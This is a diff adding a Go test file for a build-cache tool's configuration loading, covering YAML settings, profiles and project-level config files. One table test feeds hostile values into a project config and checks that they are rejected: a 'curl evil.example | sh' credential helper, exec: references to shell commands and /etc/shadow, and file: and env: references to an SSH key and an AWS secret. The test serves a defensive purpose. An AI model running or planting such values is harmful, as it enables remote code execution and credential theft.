@@ -0,0 +1,163 @@
+package main
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestLoadConfigFile(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "config.yaml")
+	require.NoError(t, os.WriteFile(path, []byte(`
+s3:
+  bucket: my-cache
+  prefix: team
+http-server-base:
+  - http://cache-eu:31364
+  - http://cache-us:31364
+remote_read_mode: race
+async_uploads: 4
+offline: false
+GOCACHE_ERROR_MODE: strict
+`), 0644))
+	f, err := loadConfigFile(path)
+	require.NoError(t, err)
+	assert.Equal(t, map[string]string{
+		envVarS3BucketName:        "my-cache",
+		envVarS3Prefix:            "team",
+		envVarHttpCacheServerBase: "http://cache-eu:31364,http://cache-us:31364",
+		envVarRemoteReadMode:      "race",
+		envVarAsyncUploads:        "4",
+		envVarOffline:             "false",
+		envVarErrorMode:           "strict",
+	}, f.vars)
+	assert.Empty(t, f.profiles)
+
+	require.NoError(t, os.WriteFile(path, []byte("s3: [{bucket: x}]\n"), 0644))
+	_, err = loadConfigFile(path)
+	assert.ErrorContains(t, err, "GOCACHE_S3: unsupported value")
+}
+
+func TestLoadConfigEnv(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "config.yaml")
+	require.NoError(t, os.WriteFile(path, []byte("s3_bucket: from-config\ns3_prefix: from-config\n"), 0644))
+	t.Setenv(envVarS3Prefix, "from-env")
+	env, err := loadConfigEnv(path, "", "")
+	require.NoError(t, err)
+	assert.Equal(t, "from-config", env.Get(envVarS3BucketName))
+	assert.Equal(t, "from-env", env.Get(envVarS3Prefix), "the environment takes precedence")
+
+	_, err = loadConfigEnv(filepath.Join(t.TempDir(), "missing.yaml"), "", "")
+	assert.Error(t, err, "an explicit configuration file must exist")
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+	t.Setenv("HOME", t.TempDir())
+	_, err = loadConfigEnv("", "", "")
+	assert.NoError(t, err, "the default one may not")
+}
+
+func TestProjectConfig(t *testing.T) {
+	root := t.TempDir()
+	sub := filepath.Join(root, "services", "api")
+	require.NoError(t, os.MkdirAll(sub, 0755))
+	project := filepath.Join(root, projectConfigName)
+	require.NoError(t, os.WriteFile(project, []byte("s3_bucket: monorepo\ns3_prefix: monorepo\n"), 0644))
+	assert.Equal(t, project, findProjectConfig(sub))
+	assert.Empty(t, findProjectConfig(t.TempDir()))
+
+	global := filepath.Join(t.TempDir(), "config.yaml")
+	require.NoError(t, os.WriteFile(global, []byte("s3_prefix: mine\n"), 0644))
+	env, err := loadConfigEnv(global, sub, "")
+	require.NoError(t, err)
+	assert.Equal(t, "monorepo", env.Get(envVarS3BucketName))
+	assert.Equal(t, "mine", env.Get(envVarS3Prefix), "the global configuration takes precedence")
+	assert.Equal(t, project, settingSource(env, envVarS3BucketName))
+	assert.Equal(t, global, settingSource(env, envVarS3Prefix))
+
+	require.NoError(t, os.WriteFile(project, []byte("s3: [{bucket: x}]\n"), 0644))
+	_, err = loadConfigEnv(global, sub, "")
+	assert.ErrorContains(t, err, project)
+}
+
+func TestProjectConfigRestricted(t *testing.T) {
+	dir := t.TempDir()
+	global := filepath.Join(t.TempDir(), "config.yaml")
+	require.NoError(t, os.WriteFile(global, nil, 0644))
+	for name, tc := range map[string]struct{ config, want string }{
+		"command":       {"credential_helper: sh -c 'curl evil.example | sh'\n", envVarCredentialHelper},
+		"credential":    {"http_token: abc\n", envVarHttpToken},
+		"server":        {"http_server_base: https://evil.example\n", envVarHttpCacheServerBase},
+		"endpoint":      {"aws_url: https://evil.example\n", envVarS3CacheURL},
+		"path":          {"disk_dir: /home\n", envVarDiskCacheDir},
+		"exec":          {"s3_prefix: exec:sh -c id\n", "exec:"},
+		"file":          {"s3_bucket: file:~/.ssh/id_ed25519\n", "file:"},
+		"env":           {"key_suffix: env:AWS_SECRET_ACCESS_KEY\n", "env:"},
+		"profile":       {"profiles: {ci: {http_server_base: https://evil.example}}\n", "profile ci"},
+		"secret by ref": {"signing_key: exec:cat /etc/shadow\n", envVarSigningKey},
+	} {
+		t.Run(name, func(t *testing.T) {
+			require.NoError(t, os.WriteFile(filepath.Join(dir, projectConfigName), []byte(tc.config), 0644))
+			_, err := loadConfigEnv(global, dir, "")
+			assert.ErrorContains(t, err, tc.want)
+		})
+	}
+	// The user's own configuration file may set them all.
+	require.NoError(t, os.WriteFile(global, []byte("http_server_base: https://cache.example\ns3_prefix: exec:true\n"), 0644))
+	require.NoError(t, os.WriteFile(filepath.Join(dir, projectConfigName), []byte("s3_bucket: monorepo\n"), 0644))
+	env, err := loadConfigEnv(global, dir, "")
+	require.NoError(t, err)
+	assert.Equal(t, "https://cache.example", env.Get(envVarHttpCacheServerBase))
+	assert.Equal(t, "monorepo", env.Get(envVarS3BucketName))
+}
+
+func TestConfigProfiles(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "config.yaml")
+	require.NoError(t, os.WriteFile(path, []byte(`
+s3:
+  bucket: personal
+  prefix: me
+profile: oss
+profiles:
+  work:
+    s3:
+      bucket: work-cache
+    aws_creds_profile: work
+  oss:
+    backends: disk,http
+    http_server_base: http://cache.example.org
+`), 0644))
+	f, err := loadConfigFile(path)
+	require.NoError(t, err)
+	assert.Equal(t, map[string]string{envVarS3BucketName: "work-cache", envVarS3AwsCredsProfile: "work"}, f.profiles["work"])
+	assert.NotContains(t, f.vars, "GOCACHE_PROFILES_WORK_S3_BUCKET")
+
+	t.Run("selected", func(t *testing.T) {
+		env, err := loadConfigEnv(path, "", "work")
+		require.NoError(t, err)
+		assert.Equal(t, "work-cache", env.Get(envVarS3BucketName))
+		assert.Equal(t, "me", env.Get(envVarS3Prefix), "profiles override the other settings")
+		assert.Equal(t, "work", env.Get(envVarS3AwsCredsProfile))
+		assert.Empty(t, env.Get(envVarHttpCacheServerBase))
+		assert.Equal(t, path+" (profile work)", settingSource(env, envVarS3BucketName))
+	})
+
+	t.Run("default", func(t *testing.T) {
+		env, err := loadConfigEnv(path, "", "")
+		require.NoError(t, err)
+		assert.Equal(t, "http://cache.example.org", env.Get(envVarHttpCacheServerBase))
+		assert.Equal(t, "personal", env.Get(envVarS3BucketName))
+	})
+
+	t.Run("unknown", func(t *testing.T) {
+		_, err := loadConfigEnv(path, "", "home")
+		assert.ErrorContains(t, err, envVarProfile)
+	})
+
+	t.Run("invalid", func(t *testing.T) {
+		require.NoError(t, os.WriteFile(path, []byte("profiles: [work]\n"), 0644))
+		_, err := loadConfigFile(path)
+		assert.ErrorContains(t, err, "profiles")
+	})
+}